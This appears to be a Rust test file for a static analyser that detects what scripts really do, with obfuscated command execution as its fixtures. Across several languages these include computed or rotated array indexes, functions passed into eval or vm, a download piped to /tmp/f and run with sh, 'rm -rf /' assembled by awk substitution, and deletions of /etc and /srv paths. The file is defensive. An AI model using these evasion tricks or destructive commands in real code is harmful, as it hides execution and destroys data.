//! What code does by ways round: names that a table holds under computed numbers, functions that a text is handed, streams that are led into
//! files, and what only looks as if it did something.

use super::tests::{effects, shown};

/// Whether a script does this, by the start of what is told.
fn tells(language: &str, code: &str, start: &str) -> bool {
    shown(&effects(language, code)).iter().any(|told| told.starts_with(start))
}

#[test]
fn a_table_is_looked_into_at_the_place_that_was_computed() {
    for (language, index) in [
        ("javascript", "1 ^ 1"),
        ("javascript", "~-1"),
        ("javascript", "9 >> 4"),
        ("javascript", "9 >>> 5"),
        ("javascript", "9 % 3"),
        ("javascript", "6 & 9"),
        ("javascript", "2 ** 3 - 8"),
        ("javascript", "8 / 4 - 2"),
        ("javascript", "7 ^ 7 & 7"),
        ("javascript", "parseInt('a', 16) - 10"),
        ("python", "5 ^ 5"),
        ("python", "~-1"),
        ("python", "9 >> 4"),
        ("python", "6 // 7"),
        ("python", "-6 % 3"),
        ("python", "1 << 3 & 7"),
        ("python", "2 ** 3 - 8"),
    ] {
        let code = match language {
            "python" => format!("import os\nT = ['canary now', 'zz']\nos.system(T[{index}])"),
            _ => format!(
                "const T = ['canary now', 'zz']; require('child_process').execSync(T[{index}])"
            ),
        };
        assert!(tells(language, &code, "run canary now"), "{code}");
        let other = code.replace("'canary now', 'zz'", "'zz', 'canary now'");
        assert!(!tells(language, &other, "run canary now"), "{other}");
    }
}

#[test]
fn a_module_and_a_function_of_it_that_stand_in_the_script_unknown_are_a_question() {
    let all = "const T = ['child_process', 'execSync', 'a', 'b', 'c', 'd'];";
    let turned =
        format!("{all} let n = 9; while (--n) T.push(T.shift()); require(T[0])[T[1]](T[2]);");
    assert!(!effects("javascript", &turned).gaps.is_empty());
    for ordinary in [
        "const n = process.argv[2]; require('./plugins/' + n)[n]()",
        "const jobs = ['a', 'b']; while (more()) { jobs.push(jobs.shift()); console.log(jobs[0]); }",
    ] {
        let found = effects("javascript", ordinary);
        assert!(found.gaps.is_empty(), "{ordinary}: {:?}", shown(&found));
    }
}

#[test]
fn code_that_is_run_has_the_functions_that_it_is_handed() {
    const CP: &str = "require('child_process')";
    for code in [
        format!("require('vm').runInNewContext('go(c)', {{ go: {CP}.execSync, c: 'canary now' }})"),
        format!(
            "const vm = require('vm'); vm.runInContext('p.execSync(c)', vm.createContext({{ p: {CP}, c: 'canary now' }}))"
        ),
        format!(
            "const vm = require('vm'); new vm.Script('go(c)').runInNewContext({{ go: {CP}.execSync, c: 'canary now' }})"
        ),
        format!("require('vm').compileFunction('go(c)', ['go', 'c'])({CP}.execSync, 'canary now')"),
        format!("new Function('go', 'c', 'go(c)')({CP}.execSync, 'canary now')"),
        format!(
            "const F = (() => {{}}).constructor; F('go', 'c', 'go(c)')({CP}.execSync, 'canary now')"
        ),
        format!("[].constructor.constructor('go', 'c', 'go(c)')({CP}.execSync, 'canary now')"),
        format!("Math.max.constructor('go', 'c', 'go(c)')({CP}.execSync, 'canary now')"),
    ] {
        assert!(tells("javascript", &code, "run canary now"), "{code}");
    }
    for code in [
        "import os\nexec('go(c)', {'go': os.system, 'c': 'canary now'})",
        "import os\neval('go(c)', {'go': os.system}, {'c': 'canary now'})",
        "import os\nexec(compile('go(c)', 'x', 'exec'), {'go': os.system, 'c': 'canary now'})",
    ] {
        assert!(tells("python", code, "run canary now"), "{code}");
    }
    for (language, code) in [
        ("javascript", "require('vm').runInNewContext('f(a)', { f: Math.sqrt, a: 4 })"),
        ("javascript", "new Function('a', 'b', 'return a + b')(1, 2)"),
        ("javascript", "console.log([].constructor === Array, (() => {}).constructor.name)"),
        ("python", "import math\nprint(eval('f(x)', {'f': math.sqrt, 'x': 4}))"),
    ] {
        let found = effects(language, code);
        let runs = shown(&found).iter().any(|told| told.starts_with("run "));
        assert!(!runs && found.gaps.is_empty(), "{code}: {:?}", shown(&found));
    }
}

#[test]
fn what_comes_over_the_network_is_in_the_file_that_it_was_led_into() {
    let run = "require('child_process').execFileSync('sh', ['/tmp/f'])";
    for way in [
        "require('https').get('https://a.example/x', (r) => { r.pipe(fs.createWriteStream('/tmp/f')).on('finish', () => { RUN }); });",
        "const out = fs.createWriteStream('/tmp/f'); require('https').get('https://a.example/x', (r) => r.pipe(out)); out.on('close', () => { RUN });",
        "require('axios')({ url: 'https://a.example/x', responseType: 'stream' }).then((r) => { r.data.pipe(fs.createWriteStream('/tmp/f')); RUN });",
    ] {
        let code = format!("const fs = require('fs'); {}", way.replace("RUN", run));
        let found = effects("javascript", &code);
        assert!(!found.gaps.is_empty(), "{code}: {:?}", shown(&found));
    }
    let own = "const fs = require('fs'); fs.createReadStream('a.txt').pipe(fs.createWriteStream('/tmp/f'));";
    assert!(effects("javascript", own).gaps.is_empty());
}

#[test]
fn a_copy_of_one_of_several_is_a_copy_of_each() {
    for (language, code) in [
        (
            "javascript",
            "const fs = require('fs'); const all = [['a', 'x/a'], ['b', 'x/b']].filter(([f]) => fs.existsSync(f)); for (const [from, to] of all) fs.copyFileSync(from, to);",
        ),
        (
            "python",
            "import os, shutil\nfor a, b in filter(lambda p: os.path.exists(p[0]), [('a', 'x/a'), ('b', 'x/b')]):\n    shutil.copyfile(a, b)",
        ),
    ] {
        let found = effects(language, code);
        let told = shown(&found);
        for file in ["write x/a", "write x/b"] {
            assert!(told.iter().any(|it| it.starts_with(file)), "{code}: {told:?}");
        }
        assert!(found.gaps.is_empty(), "{code}: {told:?}");
    }
}

#[test]
fn a_module_of_node_that_a_test_replaces_does_nothing() {
    let deletes = "fs.rmSync('/srv/data', { recursive: true });";
    let told = |code: &str| tells("javascript", code, "delete /srv/data");
    for mock in ["jest.mock('fs')", "jest.mock('node:fs')", "vi.mock('fs')"] {
        let code = format!("const fs = require('fs');\n{mock};\ntest('x', () => {{ {deletes} }});");
        assert!(!told(&code), "{code}");
    }
    for real in [
        format!("const fs = require('fs');\njest.mock('os');\ntest('x', () => {{ {deletes} }});"),
        format!("const fs = require('fs');\njest.mock('fs');\n{deletes}"),
        format!(
            "const fs = require('fs');\ntry {{ jest.mock('fs'); }} catch {{}} test('x', () => {{ {deletes} }});"
        ),
        format!("const fs = require('fs');\n{deletes}\njest.mock('fs');\ntest('x', () => {{}});"),
        format!(
            "const fs = require('fs');\njest.mock('fs', () => jest.requireActual('fs'));\ntest('x', () => {{ {deletes} }});"
        ),
        "const fs = require('fs/promises');\njest.mock('fs');\ntest('x', () => { fs.rm('/srv/data', { recursive: true }); });".to_owned(),
    ] {
        assert!(told(&real), "{real}");
    }
}

#[test]
fn awk_puts_another_text_into_what_a_name_holds() {
    for code in [
        "BEGIN { s = \"rX -rf /\"; sub(/X/, \"m\", s); system(s) }",
        "BEGIN { s = \"rX -rf /\"; gsub(\"X\", \"m\", s); system(s) }",
    ] {
        assert!(tells("awk", code, "run rm -rf /"), "{code}: {:?}", shown(&effects("awk", code)));
    }
    for code in [
        "BEGIN { s = \"echo hi\"; sub(/^e.*/, ENVIRON[\"X\"], s); system(s) }",
        "BEGIN { a[1] = \"echo hi\"; sub(/echo/, \"rm\", a[1]); system(a[1]) }",
    ] {
        assert!(!tells("awk", code, "run echo hi"), "{code}");
    }
}

#[test]
fn what_stands_between_the_tags_of_a_page_is_code_wherever_they_are() {
    for code in [
        "<?php function f($x) { unlink($x); } f('/etc/x');",
        "<?php // ?><?php unlink('/etc/x');",
        "<?php namespace A\\B { unlink('/etc/x'); }",
        "<?php namespace { unlink('/etc/x'); }",
        "<?php namespace A; unlink('/etc/x');",
        "<?php $x = <<<A\n b\nA; unlink('/etc/x');",
        "<?php $x = <<<'A'\n ?> A\n  A; unlink('/etc/x');",
        "<?php $x = f(<<<A\n AB\n A, 1); unlink('/etc/x');",
        "<?php # a\n# b ?> <b> <?php unlink('/etc/x'); ?>",
        "<?php function f($x) { ?> <b> <?php unlink($x); } f('/etc/x'); ?>",
        "it's <?= unlink('/etc/x') ?> and it's",
        "unlink('/etc/x'); $page = '<?php a();';",
    ] {
        assert!(tells("php", code, "delete /etc/x"), "{code}: {:?}", shown(&effects("php", code)));
    }
    let quiet = effects("php", "<?php /* ?> unlink('/etc/x'); */ echo \"?> unlink('/etc/x')\";");
    assert!(!shown(&quiet).iter().any(|told| told.starts_with("delete")), "{:?}", shown(&quiet));
}

#[test]
fn a_function_that_nobody_knows_is_a_question_where_it_is_told_a_place_or_a_line() {
    for (language, code) in [
        ("php", "<?php $f = $argv[1]; $f('/etc/passwd');"),
        ("php", "<?php call_user_func($argv[1], '/etc/passwd');"),
        ("php", "<?php array_map($argv[1], ['/etc/passwd']);"),
        ("php", "<?php $f = $argv[1]; $f('rm -rf /srv');"),
        ("perl", "my $f = $ARGV[0]; $f->('/etc/passwd');"),
        ("perl", "my $f = $ARGV[0]; &$f('/etc/passwd');"),
        ("ruby", "FileUtils.send(ARGV[0], '/etc')"),
        ("ruby", "FileUtils.public_send(%w[rf _ rm].sample, '/etc')"),
        ("ruby", "File.method(ARGV[0]).call('/etc/passwd')"),
    ] {
        assert!(!effects(language, code).gaps.is_empty(), "{code}");
    }
    for (language, code) in [
        (
            "php",
            "<?php function each_of($f, $list) { return $f($list[0]); } echo each_of('trim', ['a']);",
        ),
        ("php", "<?php $f = $argv[1]; echo $f('a b');"),
        ("ruby", "puts order.public_send(ARGV[0], 3)"),
    ] {
        assert!(
            effects(language, code).gaps.is_empty(),
            "{code}: {:?}",
            effects(language, code).gaps
        );
    }
}

#[test]
fn perl_takes_lines_apart_with_and_without_parentheses() {
    for code in [
        "my @f = split /:/, '/etc/x:/etc/y'; unlink $_ for @f;",
        "my @f = split(/:/, '/etc/x:/etc/y'); unlink $_ for @f;",
    ] {
        let told = shown(&effects("perl", code));
        assert!(told.iter().any(|it| it.starts_with("delete")), "{code}: {told:?}");
    }
}
